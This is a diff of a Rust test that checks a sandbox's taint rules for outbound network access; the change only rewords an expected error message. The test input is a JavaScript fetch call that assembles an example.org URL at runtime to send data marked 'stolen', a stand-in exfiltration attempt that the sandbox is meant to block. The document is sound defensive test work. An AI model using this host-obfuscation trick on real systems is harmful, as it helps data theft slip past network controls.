@@ -170,7 +170,7 @@ async fn what_tools_reach() {
     assert_eq!(cx.label(), Label::Outside, "who reaches out is tainted");
     // A tainted run reaches only hosts that the code itself names.
     let composed = run("await fetch('http://' + ['example', 'org'].join('.') + '/?stolen')", true).await.unwrap_err();
-    assert!(composed.message().contains("hosts that its own code names"), "{composed}");
+    assert!(composed.message().contains("no host that the code of `reach` names"), "{composed}");
 }
 
 #[tokio::test]
